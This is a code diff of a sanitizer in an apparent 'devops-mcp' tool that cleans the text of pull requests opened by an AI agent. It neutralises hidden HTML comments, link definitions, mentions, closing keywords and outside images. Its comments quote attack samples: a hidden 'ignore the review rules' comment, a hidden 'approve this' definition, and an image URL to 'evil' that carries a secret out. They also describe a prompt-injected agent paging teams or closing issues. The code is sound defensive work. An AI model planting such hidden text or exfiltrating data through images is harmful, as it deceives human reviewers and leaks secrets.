@@ -25,19 +25,27 @@ function invisible(char: string): boolean {
 }
 
 export const MAX_TITLE = 256;
-/** GitHub's limit on a PR body is 65,536 characters; the footer needs room. */
+/** GitHub refuses a longer PR body (422 "body is too long (maximum is 65536 characters)"). */
+export const GITHUB_MAX_BODY = 65_536;
+/** The caller's part of a PR body; the footer gets the rest of GitHub's limit. */
 export const MAX_BODY = 60_000;
+/** Room for the footer beside the longest body and the blank line between them. */
+export const MAX_FOOTER = GITHUB_MAX_BODY - MAX_BODY - 2;
+// A policy's command is shown in the footer, cut past this: a footer cannot grow past its room on its account.
+const MAX_COMMAND = 1000;
+const ZWSP = '\u200b';
 
 /**
- * Text without invisible characters, with HTML comments made visible, NFC. A comment would hide its text from the
- * rendered page (a reviewer would not see "<!-- ignore the review rules -->"); escaping every opener shows it
- * instead, and loses nothing: stripping comments ate the rest of a body whenever an opener stood alone (`<!--` in
- * a code span) and could be rebuilt by nesting (`<!-<!---->-`). The escape is one pass and cannot make a new
- * opener, since what it writes has no `<`.
+ * Text without invisible characters, with character references and HTML comments made visible, NFC. A comment would
+ * hide its text from the rendered page (a reviewer would not see "<!-- ignore the review rules -->"); escaping every
+ * opener shows it instead, and loses nothing: stripping comments ate the rest of a body whenever an opener stood
+ * alone (`<!--` in a code span) and could be rebuilt by nesting (`<!-<!---->-`). The escape is one pass and cannot
+ * make a new opener, since what it writes has no `<`.
  */
 export function cleanText(text: string): string {
-  // Invisible characters go first, so that none can break up an HTML comment's opener and keep it.
-  return visibleText(text).replaceAll('<!--', '&lt;!--');
+  // Invisible characters go first, so that none can break up an HTML comment's opener (or a character reference)
+  // and keep it; references are escaped before the comments, whose escape is one.
+  return escapeReferences(visibleText(text)).replaceAll('<!--', '&lt;!--');
 }
 
 /** NFC, without invisible characters, with plain newlines. */
@@ -53,13 +61,66 @@ function cut(text: string, max: number): string {
   return chars.length <= max ? text : `${chars.slice(0, max - 1).join('')}…`;
 }
 
-// A title is plain text on GitHub (and the commit message): nothing there renders HTML, so nothing is escaped.
+// A title is plain text on GitHub (and the commit message): nothing there renders HTML, so nothing is escaped; but
+// GitHub reads mentions and closing keywords in it.
 export function cleanTitle(title: string): string {
-  return cut(visibleText(title).replace(/\s+/g, ' ').trim(), MAX_TITLE);
+  return cut(disarm(visibleText(title).replace(/\s+/g, ' ').trim()), MAX_TITLE);
 }
 
+/**
+ * A body in which everything the caller wrote shows, and nothing acts on GitHub by itself: see cleanText,
+ * hiddenMarkup and disarm. The footer comes after it, so nothing in it may fold, hide or restyle what follows.
+ */
 export function cleanBody(body: string): string {
-  return cut(cleanText(body).trim(), MAX_BODY);
+  return cut(disarm(hiddenMarkup(cleanText(body))).trim(), MAX_BODY);
+}
+
+// A character reference (`&#64;`, `&ZeroWidthSpace;`) is decoded by the renderer after every check here: it could
+// write an invisible character, an `@` of a mention or the letters of a closing keyword. Escaped, it shows as typed.
+function escapeReferences(text: string): string {
+  return text.replace(/&(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{0,31};)/g, '&amp;');
+}
+
+// The openers of CommonMark's raw HTML (open and closing tags, processing instructions, declarations, CDATA; comments
+// are escaped before). Any tag could hide or restyle what follows it, the footer included: an unclosed `<details>`
+// folds it, `<sub>` shrinks it, `<img>` and `<picture>` fetch an outside URL. A zero-width space after the `<` makes
+// each one text, shown as typed, in code spans and blocks too (where an entity would show as `&lt;`).
+const HTML_OPENER = /<(?=[A-Za-z]|\/[A-Za-z]|\?|![A-Za-z]|!\[CDATA\[)/g;
+// A link reference definition renders as nothing (`[hidden]: <> (approve this)`), also inside a block quote or a
+// list item; with its `[` escaped it is a visible paragraph. Reference links to it show as plain text then. A label
+// is at most 999 characters (CommonMark), which also keeps the look-ahead from scanning the rest of the body.
+const LINK_DEFINITION = /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*)\[(?=(?:[^\]\\]|\\[^]){0,999}\]:)/gm;
+// An image is fetched when the page is shown, so its URL can carry data out (`![x](https://evil/?d=SECRET)`); only
+// GitHub's own hosts and relative paths (which resolve to github.com) stay images.
+const ALLOWED_IMAGE =
+  /!\[(?:[^[\]\\\n]|\\.)*\]\([ \t]*(?:https:\/\/(?:[A-Za-z0-9-]+\.)*(?:github\.com|githubusercontent\.com)\/[^\s<>()\\]*|(?!\/\/)[\w./-]+)(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*\)/y;
+
+function hiddenMarkup(text: string): string {
+  return text
+    .replace(HTML_OPENER, `<${ZWSP}`)
+    .replace(LINK_DEFINITION, '$1\\[')
+    .replace(/!\[/g, (image, at: number) => {
+      ALLOWED_IMAGE.lastIndex = at;
+      // `!\[` is text whatever precedes it: the backslash escapes the bracket, not the `!`.
+      return ALLOWED_IMAGE.test(text) ? image : '!\\[';
+    });
+}
+
+// GitHub notifies every @user and @org/team written in a PR, and closes the issues a closing keyword names once the
+// PR (or a commit with it in its message) is merged: a prompt-injected agent could page a team or close any issue.
+// A zero-width space after the `@`, or inside the keyword, keeps the text as shown and makes it inert: GitHub's
+// mention needs a name right after the `@`, and `F\u200bixes #1` holds no keyword.
+const MENTION = /(?<![A-Za-z0-9_])@(?=[A-Za-z0-9])/g;
+const CLOSING_KEYWORD =
+  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)(?=\s*(?::\s*)?(?:#|\[|gh-\d|[\w.-]+\/[\w.-]+#|https?:\/\/))/gi;
+
+/** Closing keywords made inert (see MENTION): for text GitHub reads but does not notify from, as commit messages. */
+export function disarmClosingKeywords(text: string): string {
+  return text.replace(CLOSING_KEYWORD, keyword => `${keyword.slice(0, 1)}${ZWSP}${keyword.slice(1)}`);
+}
+
+function disarm(text: string): string {
+  return disarmClosingKeywords(text.replace(MENTION, `@${ZWSP}`));
 }
 
 export interface Provenance {
@@ -92,27 +153,57 @@ export function codeSpan(text: string): string {
   return `${fence}${pad}${shown}${pad}${fence}`;
 }
 
-const list = (label: string, paths: readonly string[]) =>
-  paths.length === 0 ? [] : [`- ${label}: ${paths.map(codeSpan).join(', ')}`];
-
-/** What made the change, what it was tested with, and what it touches: appended to every PR body. */
-export function provenanceFooter(p: Provenance): string {
+/**
+ * What made the change, what it was tested with, and what it touches: appended to every PR body. The list of files
+ * stops, with "…and N more", where the next one would take the footer past `room` characters (a path may be 1,024
+ * characters, and its code span longer): the commit message lists them all.
+ */
+export function provenanceFooter(p: Provenance, room = Infinity): string {
   const tested = p.receipt
-    ? `Tested in the devops-mcp sandbox: ${codeSpan(p.receipt.command)} passed on base commit ${p.receipt.baseCommit} (change set ${p.receipt.changesHash}).`
+    ? `Tested in the devops-mcp sandbox: ${codeSpan(cut(p.receipt.command, MAX_COMMAND))} passed on base commit ${p.receipt.baseCommit} (change set ${p.receipt.changesHash}).`
     : 'Not tested in the sandbox (this repository does not require a validation receipt).';
-  return [
-    '---',
-    `Opened by devops-mcp ${p.version} (open_pr) on behalf of an automated agent.`,
-    tested,
-    ...list('created', p.created),
-    ...list('updated', p.updated),
-    ...list('deleted', p.deleted),
-    '',
-    '**Generated by an AI agent: review before merging.**',
-  ].join('\n');
+  const files = [
+    ...p.created.map(path => ({ label: 'created', span: codeSpan(path) })),
+    ...p.updated.map(path => ({ label: 'updated', span: codeSpan(path) })),
+    ...p.deleted.map(path => ({ label: 'deleted', span: codeSpan(path) })),
+  ];
+  const build = (listed: number): string => {
+    const lines: string[] = [];
+    for (const label of ['created', 'updated', 'deleted']) {
+      const spans = files.slice(0, listed).filter(file => file.label === label);
+      if (spans.length > 0) lines.push(`- ${label}: ${spans.map(file => file.span).join(', ')}`);
+    }
+    const more = files.length - listed;
+    if (more > 0) lines.push(`- …and ${more} more (the commit message lists every file)`);
+    return [
+      '---',
+      `Opened by devops-mcp ${p.version} (open_pr) on behalf of an automated agent.`,
+      tested,
+      ...lines,
+      '',
+      '**Generated by an AI agent: review before merging.**',
+    ].join('\n');
+  };
+  for (let listed = files.length; listed > 0; listed--) {
+    const footer = build(listed);
+    if (footer.length <= room) return footer;
+  }
+  return build(0);
 }
 
-/** The body with its footer; a footer already present (an update of the same PR) is not repeated. */
+/**
+ * The body with its footer, the body cut so that the two stay within GitHub's limit: counted in UTF-16 units, which
+ * are never fewer than the characters GitHub counts.
+ */
 export function withFooter(body: string, footer: string): string {
-  return body === '' ? footer : `${body}\n\n${footer}`;
+  const room = GITHUB_MAX_BODY - footer.length - 2;
+  const kept = body.length <= room ? body : cutUnits(body, room);
+  return kept === '' ? footer : `${kept}\n\n${footer}`;
+}
+
+function cutUnits(text: string, max: number): string {
+  if (max < 1) return '';
+  // Not between the two halves of a surrogate pair.
+  const end = /[\uD800-\uDBFF]/.test(text.charAt(max - 2)) ? max - 2 : max - 1;
+  return `${text.slice(0, end)}…`;
 }
